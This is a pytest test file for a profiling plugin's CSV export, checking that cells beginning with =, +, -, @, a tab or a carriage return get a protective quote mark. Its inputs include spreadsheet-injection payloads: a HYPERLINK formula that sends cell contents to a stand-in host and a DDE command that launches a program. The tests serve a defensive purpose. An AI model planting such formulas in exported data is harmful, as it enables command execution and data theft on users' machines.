"""CSV export (`data_csv`): the spreadsheet-formula guard of service.csv_cell,
which must match frontend/src/lib/csv.js `csvCell` (the table's own CSV
button), cell by cell and through the real route."""

from __future__ import annotations

import csv
import io

import pytest
from werkzeug.test import Client

from tb_profile_plugin.protos import xplane_pb2
from tb_profile_plugin.server import make_app
from tb_profile_plugin.service import csv_cell

from conftest import PlaneBuilder
from http_util import PREFIX, run_of

# The cases of frontend/test/components/csv.test.js (before CSV quoting, which
# the csv module does here), and the corners where Python's re differs from
# JavaScript's RegExp: `$` before a final newline, and non-ASCII digits.
CELLS = [
    (None, None), (-2.5, -2.5), (0, 0), ("plain", "plain"), ("", ""),
    ("=1+1", "'=1+1"), ("+x", "'+x"), ("-x", "'-x"), ("@x", "'@x"), ("\tx", "'\tx"), ("\rx", "'\rx"),
    ("-12", "-12"), ("+1e5", "+1e5"), ("-1.5", "-1.5"), ("-.5e-3", "-.5e-3"), ("+3.", "+3."),
    ('=a,"b"', '\'=a,"b"'), ("-2+3", "'-2+3"), ("-1.5\n", "'-1.5\n"), ("-\u0661", "'-\u0661"),
    ("-", "'-"), ("+.", "'+."), ("-1e", "'-1e"), ("a=1", "a=1"), (" =1", " =1"),
]


@pytest.mark.parametrize("value,expected", CELLS, ids=[repr(c[0]) for c in CELLS])
def test_csv_cell_is_csv_js(value, expected):
    assert csv_cell(value) == expected


# Device framework ops keep their names as they are (op_stats._framework_op_name),
# so these come out as table cells unchanged.
OPS = {
    '=HYPERLINK("http://x.test/?q="&A1,"click")': '\'=HYPERLINK("http://x.test/?q="&A1,"click")',
    "+cmd|' /C calc'!A0": "'+cmd|' /C calc'!A0",
    "-2+3": "'-2+3",
    "@SUM(A1:A9)": "'@SUM(A1:A9)",
    "\tDDE": "'\tDDE",
    "\rCR": "'\rCR",
    "-1.5": "-1.5",      # a plain number stays a number, as csv.js keeps it
    "+1e5": "+1e5",
    "dense/MatMul": "dense/MatMul",
}


@pytest.fixture(scope="module")
def logdir(tmp_path_factory):
    us = 1_000_000
    space = xplane_pb2.XSpace(hostnames=["h"])
    gpu = PlaneBuilder(space, "/device:GPU:0")
    ops = gpu.line("TensorFlow Ops", timestamp_ns=0)
    for i, name in enumerate(OPS):
        gpu.event(ops, name, 10 * i * us, (i + 1) * us)
    root = tmp_path_factory.mktemp("csv")
    session = root / "plugins" / "profile" / "2024_01_01_00_00_00"
    session.mkdir(parents=True)
    (session / "h.xplane.pb").write_bytes(space.SerializeToString())
    return root


def test_formula_names_are_neutralized_in_data_csv(logdir):
    client = Client(make_app(logdir, cache_dir="none"))
    (run,) = client.get(PREFIX + "runs").json
    data = client.get(PREFIX + f"data?run={run}&tag=tensorflow_stats").json
    ids = [c["id"] for c in data["columns"]]
    op, total = ids.index("operation"), ids.index("total_time")
    assert sorted(row[op] for row in data["rows"]) == sorted(OPS)  # the JSON keeps the names as they are

    reply = client.get(PREFIX + f"data_csv?run={run}&tag=tensorflow_stats")
    assert reply.status_code == 200, reply.get_data(as_text=True)
    rows = list(csv.reader(io.StringIO(reply.get_data(as_text=True), newline="")))
    assert rows[0] == [c["label"] for c in data["columns"]]
    assert len(rows) - 1 == len(data["rows"])
    assert [r[op] for r in rows[1:]] == [OPS[row[op]] for row in data["rows"]]
    # Numbers are written as numbers (no quote mark).
    assert [float(r[total]) for r in rows[1:]] == [row[total] for row in data["rows"]]
    text = reply.get_data(as_text=True)
    assert text.endswith("\r\n") and text.count("\r\n") == len(rows)  # RFC 4180 line ends, as csv.js
    for name, shown in OPS.items():
        if shown != name:  # no cell starts with the raw formula
            assert not any(cell == name for r in rows for cell in r), name
    assert "\n=HYPERLINK" not in text and ',=HYPERLINK' not in text and ',"=HYPERLINK' not in text
